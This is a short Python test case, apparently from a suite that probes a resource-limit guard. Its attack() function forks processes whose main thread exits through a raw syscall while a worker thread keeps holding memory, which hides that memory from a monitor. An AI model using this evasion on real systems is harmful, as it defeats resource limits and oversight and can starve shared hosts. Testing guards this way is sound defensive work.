# cases: 25
# guard: limits
# fact: took more memory|had not returned
"""Takes too much memory in processes whose first thread has ended, which show no memory."""
import ctypes
import os
import threading
import time


def attack(bait):
    told, tell = os.pipe()
    share = bait["megabytes"] // 3 * 1_000_000
    exit_of_a_thread = {"x86_64": 60, "aarch64": 93}[os.uname().machine]

    def take():
        time.sleep(0.1)
        held = bytearray(share)
        held[::4096] = b"x" * len(held[::4096])
        os.write(tell, b"x")
        while True:
            time.sleep(60)

    for _ in range(3):
        if os.fork() == 0:
            threading.Thread(target=take).start()
            ctypes.CDLL(None).syscall(exit_of_a_thread, 0)
    os.close(tell)
    held = b""
    while len(held) < 3 and (data := os.read(told, 3)):
        held += data
    time.sleep(0.2)  # whoever looks at the memory looks twenty times a second
    all_live = os.waitpid(-1, os.WNOHANG) == (0, 0)  # one that was ended had made room for the next
    return f"{bait['megabytes']} MB" if len(held) == 3 and all_live else None
